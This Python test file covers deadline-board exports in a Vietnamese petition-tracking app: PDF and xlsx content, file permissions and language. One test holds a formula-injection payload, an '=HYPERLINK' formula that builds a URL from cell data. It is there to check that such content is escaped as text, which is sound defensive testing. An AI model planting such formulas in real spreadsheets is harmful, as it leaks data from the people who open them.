"""Print and export the filtered board: the PDF and the xlsx hold the same rows, in Vietnamese."""

from __future__ import annotations

import datetime as dt
import io
import stat
from pathlib import Path

import pypdf
from openpyxl import load_workbook

from db.enums import PetitionKind
from desktop.core.access import NOBODY
from desktop.core.cases.board import BoardFilter, deadline_board
from desktop.core.cases.board_export import board_pdf, describe, write_board_pdf, write_board_xlsx
from desktop.core.cases.petitions import register_petition
from desktop.core.database import Database
from desktop.core.i18n import DEFAULT_LANGUAGE, set_language
from tests.builders import ADMIN, NAME, make_petition_draft

TODAY = dt.date(2026, 5, 4)


def _petition(database: Database, received: dt.date, **extra: object) -> str:
    with database.sessions.begin() as session:
        draft = make_petition_draft(received_on=received, **extra)
        return register_petition(session, draft, desk_code="D01", today=dt.date(2026, 12, 31), actor=ADMIN).number


def _board(database: Database, folder: Path) -> tuple[list[str], Path, Path]:
    late = _petition(database, dt.date(2026, 3, 2))  # due 16/03: 49 days late, prolonged
    _petition(database, dt.date(2026, 4, 20), kind=PetitionKind.DENUNCIATION, content_summary="Tố cáo cán bộ xã")
    on_time = _petition(database, dt.date(2026, 4, 21), content_summary="Khiếu nại việc cấp\ngiấy chứng nhận")
    only = BoardFilter(petition_kind=PetitionKind.COMPLAINT)
    pdf_path, xlsx_path = folder / "board.pdf", folder / "board.xlsx"
    with database.sessions() as session:
        rows = deadline_board(session, actor=NOBODY, today=TODAY, only=only)
        text = describe("all", 5, only, rows)
        write_board_pdf(session, rows, text, pdf_path, today=TODAY)
        write_board_xlsx(session, rows, text, xlsx_path, today=TODAY)
    return [late, on_time], pdf_path, xlsx_path


def test_the_exported_list_and_sheet_are_closed_to_other_accounts(database: Database, tmp_path: Path) -> None:
    _numbers, pdf_path, xlsx_path = _board(database, tmp_path)
    # They name citizens: written 0600 through files.keep / keep_streamed, as every kept file is.
    assert stat.S_IMODE(pdf_path.stat().st_mode) == 0o600
    assert stat.S_IMODE(xlsx_path.stat().st_mode) == 0o600
    assert not [path for path in tmp_path.iterdir() if path.suffix == ".part"]


def test_export_and_print_hold_the_same_filtered_rows(database: Database, tmp_path: Path) -> None:
    numbers, pdf_path, xlsx_path = _board(database, tmp_path)
    sheet = load_workbook(xlsx_path).active
    assert sheet is not None
    values = [[cell for cell in row] for row in sheet.iter_rows(values_only=True)]
    columns = ("STT", "Số", "Người gửi", "Nội dung", "Loại đơn", "Lĩnh vực", "Cán bộ xử lý", "Trạng thái", "Hạn")
    header = values.index([*columns, "Còn (ngày làm việc)", "Ghi chú"])
    body = [row for row in values[header + 1 :] if row and isinstance(row[0], int)]
    assert [row[1] for row in body] == numbers  # only the complaints, most urgent first
    assert [row[0] for row in body] == [1, 2]
    first = dict(zip(columns, body[0], strict=False))
    assert (first["Người gửi"], first["Loại đơn"], first["Trạng thái"], first["Hạn"]) == (
        NAME,
        "KN",
        "Đang xử lý đơn",
        "16/03/2026",
    )
    assert int(body[0][9]) < 0  # working days left: overdue
    assert body[0][10] == "Quá hạn 49 ngày; Kéo dài"
    assert body[1][3] == "Khiếu nại việc cấp giấy chứng nhận"  # one line, as on the board
    assert body[1][10] is None
    assert values[2][0] == "Loại đơn khiếu nại"
    assert any(str(row[0]).startswith("Tổng số: 2; quá hạn: 1; kéo dài: 1") for row in values if row and row[0])
    text = " ".join(" ".join(page.extract_text().split()) for page in pypdf.PdfReader(pdf_path).pages)
    assert "DANH SÁCH THEO DÕI THỜI HẠN GIẢI QUYẾT" in text
    for row in body:  # every spreadsheet row is printed
        assert str(row[1]) in text
        assert str(row[8]) in text
    assert "Tố cáo cán bộ xã" not in text
    assert "Quá hạn 49 ngày" in text


def test_the_printed_list_is_vietnamese_in_the_english_ui(database: Database) -> None:
    _petition(database, dt.date(2026, 3, 2))
    set_language("en")
    try:
        with database.sessions() as session:
            rows = deadline_board(session, actor=NOBODY, today=TODAY)
            assert rows[0].state == "Being processed"
            pdf = board_pdf(session, rows, describe("overdue", 5, BoardFilter(), rows), today=TODAY)
    finally:
        set_language(DEFAULT_LANGUAGE)
    text = " ".join(pypdf.PdfReader(io.BytesIO(pdf)).pages[0].extract_text().split())
    assert "Đang xử lý đơn" in text
    assert "Quá hạn" in text
    assert "Being processed" not in text


def test_every_board_state_has_its_vietnamese_name_on_the_printed_list() -> None:
    from desktop.core.cases.board import BOARD_STATE_LABELS
    from desktop.core.cases.board_export import STATE_VI

    assert set(STATE_VI) == set(BOARD_STATE_LABELS)


def test_a_text_that_looks_like_a_formula_is_exported_as_text(database: Database, tmp_path: Path) -> None:
    """A content typed (or imported from a hostile old book) as "=HYPERLINK(...)" must stay text: as a
    formula it would run in the spreadsheet of whoever opens the export (formula injection)."""
    hostile = '=HYPERLINK("http://127.0.0.1/?"&B7,"Bấm vào đây")'
    _petition(database, dt.date(2026, 4, 21), content_summary=hostile)
    path = tmp_path / "board.xlsx"
    with database.sessions() as session:
        rows = deadline_board(session, actor=NOBODY, today=TODAY)
        write_board_xlsx(session, rows, describe("all", 5, BoardFilter(), rows), path, today=TODAY)
    sheet = load_workbook(path).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == hostile]
    assert cells, "the content is exported"
    assert all(cell.data_type == "s" for cell in cells)
